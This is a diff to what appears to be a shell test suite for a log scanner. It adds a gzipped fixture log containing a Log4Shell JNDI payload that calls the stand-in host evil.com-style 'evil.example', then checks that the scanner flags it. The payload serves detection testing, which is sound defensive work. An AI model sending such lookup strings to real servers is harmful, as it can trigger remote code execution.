@@ -101,9 +101,13 @@ inner = {
 }
 for name, data in inner.items():
     open('%s/%s.log.gz' % (d, name), 'wb').write(gzip.compress(data))
+# and one the scan must read in-process, to prove it ran at all
+open('%s/attack.log.gz' % d, 'wb').write(gzip.compress(
+    b'10.0.0.1 - - [10/Dec/2021:10:00:00 +0000] "GET /?x=${jndi:ldap://evil.example/a} HTTP/1.1" 200 1\n'))
 PY
-    run env PATH="$W/bin:$PATH" "$KENSA" logs --no-summary --threads 1 "$W"
-    [ "$status" -ne 2 ] || [[ "$output" == *warning* ]]
+    run env PATH="$W/bin:$PATH" "$KENSA" logs --no-summary --threads 1 --color never "$W"
+    [ "$status" -eq 1 ]
+    [[ "$output" == *"$W/attack.log.gz!/attack.log:1: Log4Shell attempt"* ]]
     run ls "$W"
     [[ "$output" != *ran-* ]]
 }
